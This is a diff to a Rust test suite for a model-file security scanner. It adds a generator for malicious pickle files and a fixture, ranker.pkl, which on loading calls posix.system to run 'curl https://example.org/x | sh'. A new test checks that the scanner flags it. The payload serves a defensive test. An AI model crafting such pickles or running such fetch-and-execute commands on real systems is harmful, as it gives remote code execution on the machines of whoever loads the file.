@@ -79,7 +79,20 @@ fn object(module: &str, class: &str) -> Vec<u8> {
     .fold(b"\x80".to_vec(), |bytes, part| [&bytes, *part].concat()) // PROTO
 }
 
-/// Writes or compares the models of both examples, and the digest that the repository pins; once, as the pages are played at the
+/// A pickle that calls a function with one text.
+fn command(module: &str, function: &str, text: &str) -> Vec<u8> {
+    let length = u32::try_from(text.len()).unwrap().to_le_bytes();
+    [
+        format!("\x02c{module}\n{function}\n(X").as_bytes(), // the protocol's number, GLOBAL, MARK, BINUNICODE
+        &length,
+        text.as_bytes(),
+        b"tR.", // TUPLE, REDUCE, STOP
+    ]
+    .iter()
+    .fold(b"\x80".to_vec(), |bytes, part| [&bytes, *part].concat()) // PROTO
+}
+
+/// Writes or compares the models of the examples, and the digest that the repository pins; once, as the pages are played at the
 /// same time.
 fn models() {
     static ONCE: Once = Once::new();
@@ -95,6 +108,9 @@ fn write_models() {
     fresh("examples/org-policy/repository/weighbridge-waivers.yaml", waiver(&training).as_bytes());
     let vocabulary = object("example_models.vocabulary", "Vocabulary");
     fresh("examples/org-policy/repository/models/tagger/vocabulary.pkl", &vocabulary);
+
+    fresh("examples/pull-request/models/tagger.safetensors", &plain);
+    fresh("examples/pull-request/models/ranker.pkl", &command("posix", "system", "curl https://example.org/x | sh"));
 
     let folder = tempfile::tempdir().unwrap();
     let archive = folder.path().join("organisation.tar.gz");
@@ -154,6 +170,7 @@ fn run(command: &str, folder: &Path) -> String {
         .env("COLUMNS", "100")
         .env("NO_COLOR", "1")
         .env_remove("GITHUB_BASE_REF")
+        .env_remove("GITHUB_EVENT_NAME")
         .output()
         .unwrap();
     let mut shown = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
@@ -225,6 +242,14 @@ fn org_policy_is_as_its_page_says() {
     page(
         "examples/org-policy",
         &["organisation.tar.gz: OK", "(waived)", "a repository can only tighten", "may not approve", "# exit 2"],
+    );
+}
+
+#[test]
+fn pull_request_is_as_its_page_says() {
+    page(
+        "examples/pull-request",
+        &["posix.system", "# exit 1", "::error file=models/ranker.pkl", "there is no token", "weighbridge: failed"],
     );
 }
 
